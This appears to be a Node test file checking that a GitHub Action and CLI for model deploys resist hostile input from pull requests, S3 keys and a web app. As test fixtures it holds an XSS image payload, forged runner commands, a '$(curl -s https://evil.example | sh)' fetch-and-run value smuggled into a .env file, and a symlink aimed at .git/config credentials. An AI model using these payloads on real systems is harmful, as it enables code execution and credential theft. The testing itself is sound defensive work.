/**
 * The trust boundary, through the bundled action and the CLI: what a pull request, a bucket or a web-app user
 * controls cannot forge a workflow command, inject HTML into the summary, set an output, leak a file through a
 * link, or be overwritten by a write the plan did not see.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { silentLogger } from '../../src/ground/logger.ts';
import { acquireDeployLock } from '../../src/lock/index.ts';
import { FIXTURES, NO_AWS, CLI, copyModel, errorMessages, runAction, spawnNode, startAction, type ActionRun } from '../helpers/action.ts';
import { startLocalAccount, type LocalAccount } from '../helpers/local-account.ts';
import { modelRepo, write } from '../helpers/model-repo.ts';

const ZERO = '0'.repeat(40);

/** The summary with its code spans taken out: what GitHub would render as Markdown and HTML. */
function outsideCodeSpans(markdown: string): string {
  return markdown.replace(/(`+)(?!`)([\s\S]*?[^`])\1(?!`)/g, '');
}

/** Lines the runner would obey: `::name ...::` after leading white space, or `##[` anywhere. */
function commandLines(stdout: string): string[] {
  return stdout.split(/\r?\n/).filter((line) => /^\s*::/.test(line) || line.includes('##['));
}

/** Fails when any command line is not one the action itself writes, or carries the forged text as its own. */
function assertNoForgedCommand(stdout: string, marker: RegExp): void {
  for (const line of commandLines(stdout)) {
    assert.match(line, /^::(error|warning|notice|debug|group|endgroup|add-mask)[ :]/, `unexpected command line: ${line}`);
    assert.doesNotMatch(line, new RegExp(`^::[a-z-]+( [^:]*)?::${marker.source}`), `forged command: ${line}`);
  }
}

function hostileModel() {
  const { workspace, model } = copyModel(path.join(FIXTURES, 'paris'));
  const definitionFile = path.join(model, 'step-functions.json');
  const definition = JSON.parse(fs.readFileSync(definitionFile, 'utf8'));
  const first = definition.StartAt;
  // A state whose name is HTML, pointing at a state whose name holds a line feed, a command and an escape.
  definition.States[first].Next = '<img src=x onerror=alert(1)>';
  delete definition.States[first].End;
  definition.States['<img src=x onerror=alert(1)>'] = { Type: 'Pass', Next: 'B\n::warning::forged-by-state\u001b[2J ##[add-mask]x | `y`' };
  fs.writeFileSync(definitionFile, JSON.stringify(definition, null, 2));
  fs.writeFileSync(path.join(model, '.env'), 'AWS_ECR_REPO_NAME=quetzal-paris\nAWS_BUCKET_NAME=$(curl -s https://evil.example | sh)\n');
  return { workspace, model };
}

describe('a pull request is hostile text', () => {
  let run: ActionRun;
  before(async () => {
    const { workspace } = hostileModel();
    run = await runAction({ workspace, eventName: 'pull_request', inputs: { 'model-folder': 'paris' }, env: NO_AWS });
  });

  it('reports the state it names without letting the name forge a command', () => {
    assert.equal(run.exitCode, 1);
    assert.match(errorMessages(run), /B\\n::warning::forged-by-state\\e\[2J/, 'the name is shown, escaped');
    assertNoForgedCommand(run.stdout, /forged/);
    assert.ok(!run.annotations.some((annotation) => /^forged/.test(annotation.message)));
    assert.ok(!run.stdout.includes('\u001b'), 'no terminal escape reaches the log');
  });

  it('renders names in the summary as text, not HTML, and keeps each table row whole', () => {
    assert.doesNotMatch(outsideCodeSpans(run.summary), /(?<!\\)<img/);
    const [before, picture = '', after = ''] = run.summary.split(/^```mermaid\n|^```$/m);
    const rows = `${before}${after}`.split('\n').filter((line) => line.includes('forged-by-state'));
    assert.ok(rows.length > 0);
    for (const row of rows) assert.match(row, /^\| .* \|$/, `one whole row: ${row}`);
    // In the picture the name is one node's label, every character with a meaning in Mermaid as a code.
    const nodes = picture.split('\n').filter((line) => line.includes('forged-by-state'));
    assert.deepEqual(nodes, ['  s5["missing: B ::warning::forged-by-state #91;2J #35;#35;#91;add-mask#93;x #124; #96;…"]']);
  });

  it('gives no output for a name that failed its check', () => {
    assert.equal(run.outputs.bucket, undefined, 'the PR author\'s "bucket name" is not an output');
    assert.equal(run.outputs['ecr-repository'], 'quetzal-paris', 'a valid name still is');
    assert.ok(Number(run.outputs.errors) >= 2);
  });

  it('the CLI prints the same findings with no command line and no escape sequence', async () => {
    const { workspace } = hostileModel();
    const cli = await spawnNode([CLI, 'validate', 'paris'], process.env as Record<string, string>, workspace);
    assert.equal(cli.exitCode, 1);
    assert.match(cli.stdout, /forged-by-state/);
    assert.deepEqual(commandLines(cli.stdout + cli.stderr), []);
    assert.ok(!(cli.stdout + cli.stderr).includes('\u001b'));
  });
});

describe('the bucket and the web app are hostile too', () => {
  let account: LocalAccount;
  let s3: S3Client;
  const name = `qtrust-${process.pid}`;

  before(async () => {
    account = await startLocalAccount();
    await account.provisionModel(name);
    s3 = new S3Client(account.sdkConfig);
  });
  after(async () => {
    s3?.destroy();
    await account?.stop();
  });

  const sync = (workspace: string, sha: string, inputs: Record<string, string> = {}) => ({
    workspace,
    eventName: 'push',
    sha,
    event: { before: ZERO, after: sha },
    inputs: { 'model-folder': 'quetzal-example', 'ecr-repository': name, 'lambda-function': name, bucket: name, steps: 'scenarios', scenarios: 'base', ...inputs },
    env: account.env,
  });
  const text = async (key: string) => (await s3.send(new GetObjectCommand({ Bucket: name, Key: key }))).Body!.transformToString();

  it('a bucket key with a line feed in the "to delete" list forges nothing, in the log or the summary', async () => {
    const repo = modelRepo();
    const sha = repo.commit('the model');
    // A carriage return: the runner, like a terminal, would start a line there.
    const hostile = 'base/old\r::warning::forged-by-bucket ##[add-mask]x|+`y`<img src=z>.csv';
    await s3.send(new PutObjectCommand({ Bucket: name, Key: hostile, Body: 'old script file' }));
    const run = await runAction(sync(repo.workspace, sha, { 'delete-removed': 'true' }));
    assert.equal(run.exitCode, 0, run.stdout);
    assert.match(run.stdout, /base\/old\\r::warning::forged-by-bucket/, 'the key is listed, escaped');
    assertNoForgedCommand(run.stdout, /forged/);
    assert.doesNotMatch(outsideCodeSpans(run.summary), /<img/);
    assert.ok(run.summary.split('\n').some((line) => /^- (`+)base\/old\\r::warning::forged-by-bucket.*\1$/.test(line)), 'listed in the summary as one code span');
    const left = await s3.send(new ListObjectsV2Command({ Bucket: name, Prefix: 'base/old' }));
    assert.equal(left.KeyCount ?? 0, 0, 'the planned delete happened: the key was read as S3 holds it');
  });

  it('a committed link to the checkout\'s .git/config is refused before any write, and validate names it', async () => {
    const repo = modelRepo();
    write(path.join(repo.workspace, '.git', 'config'), '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n');
    fs.symlinkSync('../../../.git/config', path.join(repo.model, 'scenarios', 'base', 'notes.txt'));
    const sha = repo.commit('a link');
    const before = await s3.send(new ListObjectsV2Command({ Bucket: name }));
    const run = await runAction(sync(repo.workspace, sha, { scenarios: 'all' }));
    assert.equal(run.exitCode, 1);
    assert.match(errorMessages(run), /notes\.txt: This is a symbolic link/, "validation stops it before the deploy starts");
    const afterRun = await s3.send(new ListObjectsV2Command({ Bucket: name }));
    assert.deepEqual(afterRun.Contents?.map((object) => [object.Key, object.ETag]), before.Contents?.map((object) => [object.Key, object.ETag]), 'nothing written');

    const validate = await runAction({ workspace: repo.workspace, eventName: 'pull_request', inputs: { 'model-folder': 'quetzal-example' }, env: NO_AWS });
    assert.equal(validate.exitCode, 1);
    const finding = validate.annotations.find((annotation) => annotation.level === 'error' && annotation.file === 'quetzal-example/scenarios/base/notes.txt');
    assert.ok(finding, JSON.stringify(validate.annotations));
    assert.match(finding.message, /commit the file or folder itself/);
  });

  it('a web-app edit made while the deploy waited between its plan and its writes is kept, and the run fails naming it', async () => {
    const repo = modelRepo();
    const first = repo.commit('the model');
    assert.equal((await runAction(sync(repo.workspace, first))).exitCode, 0);
    const file = 'inputs/params.json';
    fs.writeFileSync(path.join(repo.model, 'scenarios', 'base', file), '{"from": "the repository"}\n');
    const second = repo.commit('new parameters');

    // Another deploy holds the lock: this one plans, then waits before its first write.
    const other = await acquireDeployLock(s3, { bucket: name, owner: { runId: 'other-1' }, ttlSeconds: 600, waitSeconds: 0 }, silentLogger);
    const started = startAction(sync(repo.workspace, second, { 'lock-timeout-minutes': '2' }));
    try {
      for (let waited = 0; !/Waiting for the deploy lock/.test(started.stdout()); waited += 100) {
        assert.ok(waited < 60_000, `the action never waited for the lock:\n${started.stdout()}`);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      await s3.send(new PutObjectCommand({ Bucket: name, Key: `base/${file}`, Body: '{"from": "the web app"}' }));
    } finally {
      await other.release();
    }
    const run = await started.done;
    assert.equal(run.exitCode, 1, run.stdout);
    assert.match(errorMessages(run), /changed in the bucket after the plan/);
    assert.match(errorMessages(run), /base\/inputs\/params\.json/);
    assert.equal(await text(`base/${file}`), '{"from": "the web app"}', 'the edit is kept');
  });
});
